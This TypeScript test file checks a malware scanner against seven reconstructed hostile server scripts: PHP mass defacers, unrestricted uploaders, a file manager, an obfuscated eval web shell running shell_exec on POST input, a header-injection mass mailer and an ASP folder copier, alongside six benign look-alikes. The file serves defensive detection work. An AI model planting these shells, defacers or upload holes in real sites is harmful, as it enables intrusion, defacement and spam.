import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { deflateRawSync } from 'node:zlib';
import { createScanner } from './scanner.js';

// The misses of session 41's fair samples (bench/redteam/README-corpus-s41.md), each written again by us, and the
// look-alikes that must not be malicious.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;

const rot13 = (t: string) => t.replace(/[A-Za-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) & 31) + 12) % 26 + (c.charCodeAt(0) & 96) + 1));

const PAGES: [string, string, string][] = [
  [
    'a mass defacer writing "hacked by" over every site\'s index page (H30)',
    '/home/u1/public_html/md.php',
    `<?php\n$root = "/home/u1/domains/";\n$page = <<<EOT\n<html><body><h1>Hacked by Nobody</h1></body></html>\nEOT;\nforeach (scandir($root) as $d) {\n  if ($d === '.' || $d === '..') continue;\n  $t = $root . $d . "/public_html/index.php";\n  if (is_writable(dirname($t))) { file_put_contents($t, $page); echo "[+] $d\\n"; }\n}\n`,
  ],
  [
    'the same from the command line, its variables renamed, through fopen and fwrite (H30)',
    '/tmp/x.php',
    `#!/usr/bin/php\n<?php\n$_a = '/var/www/vhosts/';\n$_e = '<title>Defaced by Q</title>';\nforeach (glob($_a . '*') as $_i) {\n  $_j = $_i . '/httpdocs/index.html';\n  $h = @fopen($_j, 'w'); if ($h) { fwrite($h, $_e); fclose($h); }\n}\n`,
  ],
  [
    'an uploader keeping the extension the client sent under a name of its own (H31)',
    '/srv/www/up.phtml',
    `<?php\n$dir = '';\nif ($_SERVER['REQUEST_METHOD'] === 'POST' && isset($_FILES['f'])) {\n  $f = $_FILES['f'];\n  $ext = pathinfo(basename($f['name']), PATHINFO_EXTENSION);\n  $to = $dir . time() . '_' . uniqid() . '.' . $ext;\n  echo move_uploaded_file($f['tmp_name'], $to) ? json_encode(['ok' => $to]) : 'fail';\n  exit;\n}\n?>\n<form method="post" enctype="multipart/form-data"><input type="file" name="f"><button>Send</button></form>\n`,
  ],
  [
    'a file manager of little code and a long style sheet, uploading under the client\'s name anywhere (H31)',
    '/srv/www/fm.php',
    `<?php\nsession_start();\nif (isset($_POST['cwd']) && is_dir($_POST['cwd'])) $_SESSION['cwd'] = realpath($_POST['cwd']);\n$cwd = $_SESSION['cwd'] ?? __DIR__;\nif (isset($_GET['del'])) unlink($cwd . '/' . $_GET['del']);\nif (isset($_FILES['file'])) {\n  $to = $cwd . DIRECTORY_SEPARATOR . basename($_FILES['file']['name']);\n  move_uploaded_file($_FILES['file']['tmp_name'], $to);\n}\n?>\n<html><head><style>\n${'.row { margin: 2px; padding: 4px 8px; border-bottom: 1px solid #ddd; font-family: monospace; }\n'.repeat(120)}</style></head><body>\n<?php foreach (scandir($cwd) as $n) echo '<div class="row">' . htmlspecialchars($n) . '</div>'; ?>\n<form method="post" enctype="multipart/form-data"><input type="file" name="file"><button>Upload</button></form></body></html>\n`,
  ],
  [
    'rot13, base64 and gzinflate named by concatenation, the payload carried through three variables (H31)',
    '/srv/www/c.php',
    `<?php\n$a = "ba"."se6"."4_d"."eco"."de";\n$b = "gz"."inf"."lat"."e";\n$c = "st"."r_r"."ot1"."3";\n$d = $c("${rot13(deflateRawSync(Buffer.from(`${'echo "<p>row</p>";\n'.repeat(400)}if (isset($_POST["x"])) { echo shell_exec($_POST["x"]); }`)).toString('base64'))}");\n$e = $a($d);\n$f = $b($e);\neval($f);\n`,
  ],
  [
    'a mass mailer putting the message in the headers after their blank line, the body empty (H34)',
    '/srv/www/m.php',
    `<?php\n$message = $_POST['message']; $list = $_POST['emaillist']; $subject = $_POST['subject']; $from = $_POST['from'];\n$all = split("\\n", $list);\nfor ($x = 0; $x < count($all); $x++) {\n  $to = ereg_replace(" ", "", $all[$x]);\n  $header = "From: $from\\r\\nMIME-Version: 1.0\\r\\n\\r\\n";\n  $header .= "$message\\r\\n";\n  mail($to, $subject, "", $header);\n}\n`,
  ],
  [
    'a classic ASP explorer of every drive copying the folders the request names (H32)',
    '/inetpub/wwwroot/x.asp',
    `<%\nIf Request.QueryString("CopyFolder") <> "" Then\n  Set FSO = CreateObject("Scripting.FileSystemObject")\n  FSO.CopyFolder Request.QueryString("CopyFolder") & "*", "e:\\stage\\"\nEnd If\nSet FS = Server.CreateObject("Scripting.FileSystemObject")\nFor Each D In FS.Drives\n  Response.Write "<option>" & D.DriveLetter & ":</option>"\nNext\n%>\n`,
  ],
];

const LOOKALIKES: [string, string, string][] = [
  [
    "a hosting tool writing a default page into each new site's public_html",
    '/usr/local/panel/provision.php',
    `<?php\n$base = '/home/';\nforeach (scandir($base) as $u) {\n  if ($u[0] === '.') continue;\n  $idx = $base . $u . "/public_html/index.html";\n  if (!file_exists($idx)) file_put_contents($idx, "<h1>Site coming soon</h1>");\n}\n`,
  ],
  [
    'a security scanner whose signatures name defacement pages, reading index pages',
    '/srv/www/wp-content/plugins/guard/scan.php',
    `<?php\n$sigs = ['hacked by', 'Hacked By', 'owned by'];\nforeach (glob(ABSPATH . '../*/public_html/index.php') as $f) {\n  $c = file_get_contents($f);\n  foreach ($sigs as $s) if (stripos($c, $s) !== false) error_log("$f looks hacked by a defacer");\n}\nfile_put_contents(__DIR__ . '/report.txt', 'done');\n`,
  ],
  [
    'an image uploader testing the extension pathinfo reads against a list',
    '/srv/www/avatar.php',
    `<?php\nif (isset($_FILES['a'])) {\n  $ext = strtolower(pathinfo($_FILES['a']['name'], PATHINFO_EXTENSION));\n  if (!in_array($ext, ['jpg', 'png', 'gif'], true)) die('images only');\n  move_uploaded_file($_FILES['a']['tmp_name'], __DIR__ . '/avatars/' . bin2hex(random_bytes(8)) . '.' . $ext);\n}\n`,
  ],
  [
    'an uploader comparing the extension it reads',
    '/srv/www/doc.php',
    `<?php\n$name = $_FILES['doc']['name'];\n$kind = pathinfo($name, PATHINFO_EXTENSION);\nif ($kind !== 'pdf') exit('PDF only');\nmove_uploaded_file($_FILES['doc']['tmp_name'], '/srv/docs/' . sha1($name) . '.pdf');\n`,
  ],
  [
    'a contact form mailing the site\'s own address with the visitor\'s message in the headers',
    '/srv/www/contact.php',
    `<?php\n$headers = "From: site@example.com\\r\\nReply-To: " . $_POST['email'] . "\\r\\n\\r\\n" . $_POST['message'];\nmail('office@example.com', 'Contact form', '', $headers);\n`,
  ],
  [
    'a classic ASP disk report listing the drives and deleting only its own temporary files',
    '/inetpub/wwwroot/disk.asp',
    `<%\nSet FS = Server.CreateObject("Scripting.FileSystemObject")\nFor Each D In FS.Drives\n  Response.Write D.DriveLetter & ": " & D.FreeSpace & "<br>"\nNext\nIf Request.Form("clean") = "1" Then FS.DeleteFile Server.MapPath("tmp/*.tmp")\n%>\n`,
  ],
];

describe('scan: session 41 samples, the misses written again', () => {
  for (const [name, path, src] of PAGES) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every page', () => assert.equal(PAGES.length, 7));
  for (const [name, path, src] of LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 6));
});
